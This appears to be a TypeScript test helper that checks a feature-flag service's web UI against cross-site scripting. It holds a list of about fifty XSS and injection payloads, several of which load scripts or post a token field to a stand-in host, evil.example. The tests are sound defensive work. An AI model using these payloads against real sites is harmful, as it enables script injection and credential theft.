import type { OperationInput } from '@svc/client/api'
import type { Test } from 'tap'
import { settled } from './axe.ts'
import { apply, inGermany } from './content.ts'
import type { Site, Visit } from './site.ts'

/** What each of them runs where it is taken for code. */
const run = 'window.svcHacked=1,alert(1)'

/** Texts that would do something if they were taken for code; the first ten stand for their kinds. */
export const hostileTexts: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `"><svg onload=${run}>`,
  `javascript:${run}`,
  `{{constructor.constructor('${run}')()}}`,
  '<style>*{background:url(https://evil.example/)}</style>',
  `</title></textarea></script><script>${run}</script>`,
  `\u202e<b>${run}\u202c\ue000bold\ue001`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `${'A'.repeat(200)}😀👩‍👩‍👧‍👦e\u0301\u200b`,
  // More of each kind.
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<img src="x" onerror=eval(atob('YWxlcnQoMSk='))>`,
  `<img src="https://evil.example/pixel.png">`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<input autofocus onfocus=${run}>`,
  `<a href="javascript:${run}">link</a>`,
  `<form action="https://evil.example/"><input name=token></form>`,
  `<button formaction="javascript:${run}">press</button>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `' onmouseover='${run}`,
  `" autofocus onfocus="${run}`,
  `\`-${run}-\``,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `');${run};//`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `%3Cscript%3E${run}%3C%2Fscript%3E`,
  `[link](javascript:${run})`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `expression(${run})`,
  `x; background: url(javascript:${run})`,
  `__proto__ constructor toString`,
]

/** A flag and a segment named by each text, and one of each that have all of them in all their parts. */
export function hostileContent(texts: readonly string[]): readonly OperationInput[] {
  const [first = ''] = texts
  const constraints = texts.flatMap((text) => [
    { ...inGermany, property: text, value: text, description: text },
    { ...inGermany, operator: 'isoneof', value: JSON.stringify([text]) },
  ])
  const variants = texts.map((text, place) => ({
    key: `v${place}`,
    name: text,
    description: text,
    attachment: JSON.stringify({ [text]: text }),
    default: place === 0,
  }))
  const named = (text: string) => ({
    name: text,
    description: text,
    metadata: { tags: [text.slice(0, 64)], owner: text, [text]: text },
  })
  const each = texts.flatMap((text, place): OperationInput[] => [
    {
      kind: 'SEGMENT_KIND',
      key: `s${place}`,
      segment: { name: text, description: text, matchType: 'ALL_MATCH_TYPE' },
    },
    {
      kind: 'FLAG_KIND',
      key: `f${place}`,
      flag: {
        ...named(text),
        type: 'BOOLEAN_FLAG_TYPE',
        rollouts: [{ description: text, segment: { segments: [`s${place}`], value: true } }],
      },
    },
  ])
  return [
    ...each,
    {
      kind: 'SEGMENT_KIND',
      key: 'all',
      segment: { name: first, description: first, matchType: 'ANY_MATCH_TYPE', constraints },
    },
    {
      kind: 'FLAG_KIND',
      key: 'all',
      flag: {
        ...named(first),
        type: 'VARIANT_FLAG_TYPE',
        enabled: true,
        variants,
        rules: texts.map((_, place) => ({
          segments: [`s${place}`, 'all'],
          distributions: [
            { variant: 'v0', rollout: 50 },
            { variant: 'v1', rollout: 40 },
          ],
        })),
      },
    },
  ]
}

/** Pages that show all of them, and what of addresses is shown. */
export function hostileRoutes(namespaceKey: string, texts: readonly string[]): readonly string[] {
  // As many as an address takes.
  const queries = texts.slice(0, 10).map(encodeURIComponent)
  const [query = ''] = queries
  const own = [
    'flags?size=100',
    'segments',
    'segments/all',
    'flags/all',
    'flags/all/variants',
    'flags/all/history',
    'flags/all/settings',
    'flags/f1',
    'changes',
    `console?flag=f0&entity=${query}`,
  ]
  const search = queries.map((query) => `q=${query}`).join('&')
  return [
    ...own.map((page) => `/ns/${namespaceKey}/${page}`),
    `/ns/${namespaceKey}/flags?${search}&tag=${query}&segment=${query}&sort=${query}&new=${query}`,
    `/ns/${query}/flags`,
    '/tokens',
    '/audit',
    `/login?error=${query}&request=${query}&back=${query}`,
  ]
}

/**
 * Shows the texts everywhere, and types them into what there is to type into: they are shown as they are, and
 * nothing comes of them.
 */
export async function tryHostileTexts(
  t: Test,
  site: Pick<Site, 'api'>,
  { page, namespaceKey, watched }: Visit,
  texts: readonly string[],
): Promise<void> {
  await apply(site.api, namespaceKey, ...hostileContent(texts))
  for (const [place, text] of texts.entries()) {
    await site.api(
      'PUT',
      `/api/v1/namespaces/${namespaceKey}/flags/f${place}`,
      { name: text, description: text, enabled: true },
      { 'x-svc-comment': encodeURIComponent(text) },
    )
  }
  const { status } = await site.api('POST', '/auth/v1/method/token', {
    name: texts[1],
    description: texts[2],
  })
  t.equal(status, 200, 'a token has such a name')

  for (const route of hostileRoutes(namespaceKey, texts)) {
    await page.goto(route)
    await settled(page)
    t.equal(await page.evaluate('window.svcHacked'), undefined, `nothing runs: ${route}`)
    t.equal(await page.locator('script:not([src])').count(), 0, 'no script is added')
  }
  await page.goto(`/ns/${namespaceKey}/flags?size=100`)
  await page.locator('[data-row-link]').first().waitFor()
  await settled(page)
  const shown = await page.locator('[data-row-link] > :first-child').allTextContents()
  t.strictSame(new Set(shown), new Set(texts.map((text) => text)), 'they are shown as they are')

  await page.getByRole('button', { name: 'New flag' }).click()
  const form = page.getByRole('dialog', { name: /^New flag in/ })
  for (const text of texts) {
    for (const label of ['Name', 'Key', 'Description', 'Tags']) {
      await form.getByLabel(label, { exact: label === 'Name' || label === 'Key' }).fill(text)
    }
    await form.getByLabel('Name', { exact: true }).focus()
  }
  t.equal(await page.evaluate('window.svcHacked'), undefined, 'nothing runs of what is typed')
  t.strictSame(watched.complaints, [])
}
